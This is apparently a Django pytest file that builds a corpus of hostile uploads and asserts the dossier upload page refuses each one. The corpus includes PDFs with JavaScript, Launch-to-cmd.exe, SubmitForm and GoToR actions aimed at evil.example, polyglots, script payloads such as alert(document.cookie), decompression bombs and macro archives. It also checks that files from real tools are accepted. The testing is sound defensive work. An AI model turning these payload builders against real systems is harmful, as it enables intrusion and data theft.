"""R-DOSSIER-2; ASVS 5.0 5.2.2 (content checked, not just the name) and 5.2.3 (no active or
compressed-bomb content): a corpus of hostile files, each built here in code, uploaded through
the real dossier upload page, each refused with a message the candidate can act on and nothing
stored; and files made by real tools (WeasyPrint, Chromium's "print to PDF", LibreOffice when
installed, a phone-like JPEG with GPS coordinates, a scanner-like greyscale PNG) accepted."""

import io
import shutil
import subprocess
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import pytest
from django import forms
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.defaultfilters import filesizeformat
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
from weasyprint import HTML

from candidates.models import Document
from core import file_checks
from tests.candidates.factories import document_type, fill_dossier

pytestmark = pytest.mark.django_db

BAD_TYPE = "This type of file is not accepted; accepted types: PDF, JPEG, PNG."
MISMATCH = "The file name does not match its content; accepted types: PDF, JPEG, PNG."


# --- builders -------------------------------------------------------------------------------


def name(value):
    return NameObject(value)


def pdf(change=None, *, encrypt=None) -> bytes:
    """A one-page pypdf document, changed by `change(writer, page)` before it is written."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    if change:
        change(writer, page)
    if encrypt:
        writer.encrypt(**encrypt)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind, **entries):
    action = DictionaryObject({name("/S"): name(kind)})
    action.update({name(f"/{key}"): value for key, value in entries.items()})
    return action


def opening(kind, **entries):
    def change(writer, _page):
        writer.root_object[name("/OpenAction")] = action(kind, **entries)

    return change


def annotation(subtype, **entries):
    def change(_writer, page):
        annot = DictionaryObject(
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name(subtype),
                name("/Rect"): ArrayObject(
                    [FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(50)]
                ),
            }
        )
        annot.update({name(f"/{key}"): value for key, value in entries.items()})
        page[name("/Annots")] = ArrayObject([annot])

    return change


def weasyprint_pdf() -> bytes:
    return HTML(
        string="<h1>Curriculum vitæ</h1><p>Élodie Martin, BTS Bâtiment, 2019-2021.</p>"
        '<p><a href="https://www.linkedin.com/in/example">LinkedIn</a></p>'
    ).write_pdf()


def raw_pdf(catalog: bytes) -> bytes:
    """A hand-written PDF whose catalogue is `catalog`, with a correct cross-reference table."""
    objects = [
        catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def picture(image_format, *, size=(64, 48), mode="RGB", **options) -> bytes:
    image = Image.new(mode, size)
    image.putdata(
        [((x * 4) % 256, (y * 5) % 256, 128)[: len(mode)] for y in range(size[1]) for x in range(size[0])]
    )
    out = io.BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def png_bomb() -> bytes:
    """A valid, tiny PNG whose header declares 30000 × 30000 pixels."""
    header = (30000).to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
        + png_chunk(b"IEND", b"")
    )


def jpeg_bomb() -> bytes:
    """A small JPEG whose frame header is patched to declare 30000 × 30000 pixels."""
    data = bytearray(picture("JPEG"))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = (30000).to_bytes(2, "big") * 2
    return bytes(data)


def with_png_text(data: bytes, text: bytes) -> bytes:
    end = data.rindex(b"IEND") - 4
    return data[:end] + png_chunk(b"tEXt", b"Comment\x00" + text) + data[end:]


def with_jpeg_comment(data: bytes, text: bytes) -> bytes:
    return data[:2] + b"\xff\xfe" + (len(text) + 2).to_bytes(2, "big") + text + data[2:]


def archive(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        for path, content in files.items():
            zipped.writestr(path, content)
    return out.getvalue()


OFFICE_MACRO = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
    "word/document.xml": b"<w:document/>",
    "word/vbaProject.bin": b'\xd0\xcf\x11\xe0Attribute VB_Name = "ThisDocument"\nSub AutoOpen()',
}
JAR = {
    "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: Evil\n",
    "Evil.class": b"\xca\xfe\xba\xbe",
}
SCRIPT = b"<script>alert(document.cookie)</script>"
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


# --- the hostile corpus ---------------------------------------------------------------------


@dataclass
class Hostile:
    filename: str
    build: object  # () -> bytes, built lazily so that a failing builder names its case
    message: object  # the text the candidate reads (a lazy translation or a callable)


def too_large_message():
    size = settings.PORTAL_UPLOAD_MAX_BYTES + 1
    return translation.gettext("The file is too large (%(size)s); the limit is %(limit)s.") % {
        "size": filesizeformat(size),
        "limit": filesizeformat(settings.PORTAL_UPLOAD_MAX_BYTES),
    }


def pixels_message(width=30000, height=30000):
    limit = round(settings.PORTAL_UPLOAD_MAX_PIXELS / 1e6)
    return lambda: str(file_checks.IMAGE_TOO_LARGE) % {"width": width, "height": height, "limit": limit}


HOSTILE = {
    # PDFs with active content (ASVS 5.2.3)
    "pdf_javascript_on_open": Hostile(
        "cv.pdf",
        lambda: pdf(opening("/JavaScript", JS=TextStringObject("app.alert(1)"))),
        file_checks.PDF_ACTIVE,
    ),
    "pdf_javascript_in_names": Hostile(
        "cv.pdf",
        lambda: pdf(
            lambda w, _p: w.root_object.__setitem__(
                name("/Names"),
                DictionaryObject(
                    {
                        name("/JavaScript"): DictionaryObject(
                            {name("/Names"): ArrayObject([TextStringObject("x"), action("/JavaScript")])}
                        )
                    }
                ),
            )
        ),
        file_checks.PDF_ACTIVE,
    ),
    "pdf_obfuscated_javascript_name": Hostile(
        "cv.pdf",
        lambda: raw_pdf(b"<</Type/Catalog/Pages 2 0 R/Open#41ction<</S/J#61vaScript/JS(app.alert(1))>>>>"),
        file_checks.PDF_ACTIVE,
    ),
    "pdf_launch": Hostile(
        "cv.pdf",
        lambda: pdf(opening("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe"))),
        file_checks.PDF_ACTIVE,
    ),
    "pdf_uri_on_open": Hostile(
        "cv.pdf",
        lambda: pdf(opening("/URI", URI=TextStringObject("https://evil.example"))),
        file_checks.PDF_ACTIVE,
    ),
    "pdf_page_additional_action": Hostile(
        "cv.pdf",
        lambda: pdf(
            lambda _w, page: page.__setitem__(
                name("/AA"), DictionaryObject({name("/O"): action("/JavaScript", JS=TextStringObject("x()"))})
            )
        ),
        file_checks.PDF_ACTIVE,
    ),
    "pdf_embedded_file": Hostile(
        "cv.pdf",
        lambda: pdf(lambda w, _p: w.add_attachment("invoice.exe", b"MZ\x90\x00")),
        file_checks.PDF_ACTIVE,
    ),
    "pdf_file_attachment_annotation": Hostile(
        "cv.pdf", lambda: pdf(annotation("/FileAttachment")), file_checks.PDF_ACTIVE
    ),
    "pdf_richmedia": Hostile("cv.pdf", lambda: pdf(annotation("/RichMedia")), file_checks.PDF_ACTIVE),
    "pdf_xfa_form": Hostile(
        "cv.pdf",
        lambda: pdf(
            lambda w, _p: w.root_object.__setitem__(
                name("/AcroForm"),
                DictionaryObject(
                    {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp/>")}
                ),
            )
        ),
        file_checks.PDF_ACTIVE,
    ),
    "pdf_link_to_remote_file": Hostile(
        "cv.pdf",
        lambda: pdf(
            annotation("/Link", A=action("/GoToR", F=TextStringObject("\\\\evil.example\\share\\a.pdf")))
        ),
        file_checks.PDF_ACTIVE,
    ),
    "pdf_submit_form": Hostile(
        "cv.pdf",
        lambda: pdf(
            annotation("/Widget", A=action("/SubmitForm", F=TextStringObject("https://evil.example")))
        ),
        file_checks.PDF_ACTIVE,
    ),
    # PDFs the jury could not read
    "pdf_encrypted_with_a_password": Hostile(
        "cv.pdf",
        lambda: pdf(encrypt={"user_password": "secret", "owner_password": "owner", "algorithm": "AES-256"}),
        file_checks.PDF_ENCRYPTED,
    ),
    "pdf_first_half": Hostile(
        "cv.pdf", lambda: weasyprint_pdf()[: len(weasyprint_pdf()) // 2], file_checks.PDF_UNREADABLE
    ),
    "pdf_cut_before_eof": Hostile("cv.pdf", lambda: weasyprint_pdf()[:-7], file_checks.PDF_UNREADABLE),
    "pdf_header_then_garbage": Hostile(
        "cv.pdf", lambda: b"%PDF-1.7\n" + b"garbage " * 200 + b"\n%%EOF\n", file_checks.PDF_UNREADABLE
    ),
    # polyglots and hidden payloads
    "pdf_zip_polyglot": Hostile("cv.pdf", lambda: pdf() + archive(JAR), file_checks.HIDDEN_CONTENT),
    "pdf_html_polyglot": Hostile(
        "cv.pdf", lambda: pdf().replace(b"\n", b"\n%" + HTML_PAGE + b"\n", 1), file_checks.HIDDEN_CONTENT
    ),
    "jpeg_with_html_after_the_image": Hostile(
        "photo.jpg", lambda: picture("JPEG") + HTML_PAGE, file_checks.HIDDEN_CONTENT
    ),
    "jpeg_with_script_after_eoi": Hostile(
        "photo.jpg", lambda: picture("JPEG") + SCRIPT, file_checks.HIDDEN_CONTENT
    ),
    "jpeg_with_html_in_comment": Hostile(
        "photo.jpg", lambda: with_jpeg_comment(picture("JPEG"), HTML_PAGE), file_checks.HIDDEN_CONTENT
    ),
    "jpeg_jar_gifar": Hostile(
        "photo.jpg", lambda: picture("JPEG") + archive(JAR), file_checks.HIDDEN_CONTENT
    ),
    "jpeg_pdf_polyglot": Hostile("photo.jpg", lambda: picture("JPEG") + pdf(), file_checks.HIDDEN_CONTENT),
    "png_with_trailing_html": Hostile(
        "scan.png", lambda: picture("PNG") + HTML_PAGE, file_checks.HIDDEN_CONTENT
    ),
    "png_with_script_in_text_chunk": Hostile(
        "scan.png", lambda: with_png_text(picture("PNG"), SCRIPT), file_checks.HIDDEN_CONTENT
    ),
    # decompression bombs and broken pictures
    "png_declaring_30000x30000": Hostile("scan.png", png_bomb, pixels_message()),
    "jpeg_declaring_30000x30000": Hostile("photo.jpg", jpeg_bomb, pixels_message()),
    "jpeg_truncated": Hostile(
        "photo.jpg", lambda: picture("JPEG")[: len(picture("JPEG")) // 2], file_checks.IMAGE_UNREADABLE
    ),
    "png_without_end": Hostile("scan.png", lambda: picture("PNG")[:-12], file_checks.IMAGE_UNREADABLE),
    "png_magic_then_garbage": Hostile(
        "scan.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, file_checks.IMAGE_UNREADABLE
    ),
    # wrong extensions
    "pdf_named_png": Hostile("scan.png", pdf, MISMATCH),
    "png_named_pdf": Hostile("cv.pdf", lambda: picture("PNG"), MISMATCH),
    "jpeg_named_png": Hostile("scan.png", lambda: picture("JPEG"), MISMATCH),
    "pdf_named_exe": Hostile("cv.exe", pdf, MISMATCH),
    # types that are never accepted
    "svg_with_script": Hostile(
        "logo.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", BAD_TYPE
    ),
    "svg_named_png": Hostile("logo.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', BAD_TYPE),
    "html_named_pdf": Hostile("cv.pdf", lambda: HTML_PAGE, BAD_TYPE),
    "word_macro_docm": Hostile("cv.docm", lambda: archive(OFFICE_MACRO), BAD_TYPE),
    "excel_macro_xlsm_named_pdf": Hostile("notes.pdf", lambda: archive(OFFICE_MACRO), BAD_TYPE),
    "zip_archive": Hostile("pieces.zip", lambda: archive({"cv.pdf": b"%PDF-1.4"}), BAD_TYPE),
    "rar_archive": Hostile("pieces.rar", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, BAD_TYPE),
    "7z_archive_named_pdf": Hostile("cv.pdf", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64, BAD_TYPE),
    "windows_program_named_pdf": Hostile(
        "cv.pdf", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64, BAD_TYPE
    ),
    "gif_named_png": Hostile("scan.png", lambda: picture("GIF"), BAD_TYPE),
    # empty and oversized
    "zero_bytes": Hostile("cv.pdf", lambda: b"", forms.FileField.default_error_messages["empty"]),
    "oversized": Hostile(
        "cv.pdf", lambda: b"%PDF-1.4\n" + b"0" * (settings.PORTAL_UPLOAD_MAX_BYTES - 8), too_large_message
    ),
}


@pytest.fixture
def upload_page(session_2021, candidate, during_session, login):
    application = fill_dossier(candidate, session_2021, documents=False)
    cv = document_type(session_2021, "cv")
    client = login(candidate)

    def post(filename, content):
        return client.post(
            reverse("candidates:document_upload", args=[2021, cv.pk]),
            {f"doc{cv.pk}-file": SimpleUploadedFile(filename, content)},
        )

    post.application = application
    return post


def stored_files() -> list[Path]:
    root = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    return [path for path in root.rglob("*") if path.is_file()]


def test_the_corpus_has_at_least_thirty_hostile_files():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("case", list(HOSTILE), ids=list(HOSTILE))
def test_R_DOSSIER_2_ASVS_5_2_2_5_2_3_hostile_upload_is_refused_with_a_clear_message(upload_page, case):
    hostile = HOSTILE[case]
    response = upload_page(hostile.filename, hostile.build())
    assert response.status_code == 200  # the page again, with the error on the field
    with translation.override(response["Content-Language"]):
        expected = (
            hostile.message() if callable(hostile.message) else translation.gettext(str(hostile.message))
        )
    assert escape(expected) in response.content.decode()
    assert not Document.objects.filter(application=upload_page.application).exists()
    assert stored_files() == []


# --- files from real tools ------------------------------------------------------------------


def chromium_print_to_pdf(tmp_path) -> bytes:
    """Chromium's "print to PDF", the very advice the refusals give."""
    binary = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if not binary:
        pytest.skip("no Chromium here")
    page = tmp_path / "cv.html"
    page.write_text(
        '<html lang="fr"><body><h1>CV</h1><p>Léa, <a href="https://example.org">portfolio</a></p></body></html>'
    )
    target = tmp_path / "cv.pdf"
    subprocess.run(  # a fixed command line on a file of ours
        [binary, "--headless", "--no-sandbox", "--disable-gpu", f"--print-to-pdf={target}", page.as_uri()],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return target.read_bytes()


def libreoffice_pdf(tmp_path) -> bytes:
    binary = shutil.which("libreoffice") or shutil.which("soffice")
    if not binary:
        pytest.skip("LibreOffice is not installed here")
    source = tmp_path / "lettre.txt"
    source.write_text("Lettre de motivation\nJe souhaite rejoindre la formation.\n")
    subprocess.run(  # a fixed command line on a file of ours
        [binary, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return (tmp_path / "lettre.pdf").read_bytes()


def scanner_like_pdf(_tmp_path) -> bytes:
    """A scanning app's output: one greyscale picture per page."""
    out = io.BytesIO()
    Image.new("L", (850, 1100), 235).save(out, "PDF", resolution=100)
    return out.getvalue()


def pdf_with_opening_destination(_tmp_path) -> bytes:
    """LibreOffice and others open on a page ([page /XYZ …]): a destination, not an action."""

    def change(writer, page):
        writer.root_object[name("/OpenAction")] = ArrayObject([page.indirect_reference, name("/Fit")])

    return pdf(change)


def pdf_with_owner_password_only(_tmp_path) -> bytes:
    """Restrictions without a password to open it: the jury opens it like any PDF."""
    return pdf(encrypt={"user_password": "", "owner_password": "owner", "algorithm": "AES-128"})


@pytest.mark.parametrize(
    "make",
    [
        lambda _tmp: weasyprint_pdf(),
        chromium_print_to_pdf,
        libreoffice_pdf,
        scanner_like_pdf,
        pdf_with_opening_destination,
        pdf_with_owner_password_only,
    ],
    ids=[
        "weasyprint",
        "chromium_print_to_pdf",
        "libreoffice",
        "scanner_app",
        "opening_destination",
        "owner_password",
    ],
)
def test_R_DOSSIER_2_pdfs_from_real_tools_are_accepted_as_they_are(upload_page, tmp_path, make):
    content = make(tmp_path)
    response = upload_page("cv.pdf", content)
    assert response.status_code == 302
    document = Document.objects.get(application=upload_page.application)
    assert document.content_type == "application/pdf"
    with document.file.open("rb") as stored:
        assert stored.read() == content  # a PDF is kept byte for byte


def exif_with_gps_and_rotation():
    exif = Image.Exif()
    exif[0x0110] = "Pixel 7"  # camera model
    exif[0x0112] = 6  # orientation: the sensor's picture must turn 90° to stand upright
    exif.get_ifd(0x8825).update({1: "N", 2: (43.0, 7.0, 30.0), 3: "E", 4: (4.0, 4.0, 50.0)})  # Alès
    return exif


def test_R_DOSSIER_2_phone_photo_is_re_encoded_upright_without_gps(upload_page):
    """A phone camera's JPEG (EXIF GPS coordinates, orientation tag, a motion-photo trailer):
    accepted, stored upright with no EXIF at all (ASVS 5.2.2)."""
    photo = picture("JPEG", size=(64, 48), exif=exif_with_gps_and_rotation(), quality=95)
    original = Image.open(io.BytesIO(photo))
    assert original.getexif().get_ifd(0x8825)  # the GPS block is really there
    motion_trailer = b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 8  # a video after the picture
    response = upload_page("IMG_20210215.jpg", photo + motion_trailer)
    assert response.status_code == 302
    document = Document.objects.get(application=upload_page.application)
    with document.file.open("rb") as handle:
        stored_bytes = handle.read()
    stored = Image.open(io.BytesIO(stored_bytes))
    assert stored.format == "JPEG" and document.content_type == "image/jpeg"
    assert stored.size == (48, 64)  # turned upright
    assert not stored.getexif() and b"Exif" not in stored_bytes and b"ftyp" not in stored_bytes
    assert document.size == len(stored_bytes)


def test_R_DOSSIER_2_scanner_greyscale_png_is_re_encoded_with_the_same_pixels(upload_page):
    """A scanner's greyscale PNG with its resolution and a text chunk: the pixels are kept,
    the text chunk is dropped."""
    scan = Image.new("L", (300, 400))
    scan.putdata([(x + y) % 256 for y in range(400) for x in range(300)])
    out = io.BytesIO()
    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "Scanner 3000")
    scan.save(out, "PNG", dpi=(300, 300), pnginfo=info)
    response = upload_page("releve.png", out.getvalue())
    assert response.status_code == 302
    document = Document.objects.get(application=upload_page.application)
    with document.file.open("rb") as handle:
        stored_bytes = handle.read()
    stored = Image.open(io.BytesIO(stored_bytes))
    assert stored.mode == "L" and stored.tobytes() == scan.tobytes()
    assert b"Scanner 3000" not in stored_bytes


def test_refused_pdf_check_reads_every_object_it_can_reach():
    """The walk reaches an action nested deep in the page tree, not only the catalogue."""
    nested = annotation("/Link", A=action("/GoTo", Next=action("/JavaScript", JS=TextStringObject("x()"))))
    with pytest.raises(Exception) as refusal:
        file_checks.check_pdf(pdf(nested))
    assert refusal.value.code == "pdf_active_content"
    assert len(PdfReader(io.BytesIO(pdf(nested))).pages) == 1  # a well-formed PDF otherwise


def test_R_DOSSIER_2_jpeg_with_stray_bytes_between_segments_is_accepted():
    """Some cameras leave bytes before a marker; decoders skip them, so does the check."""
    photo = picture("JPEG")
    segment = photo.index(b"\xff\xdb")  # the first quantisation table
    odd = photo[:segment] + b"\x00\x00" + photo[segment:]
    assert Image.open(io.BytesIO(file_checks.reencode_image(odd, "JPEG"))).size == (64, 48)
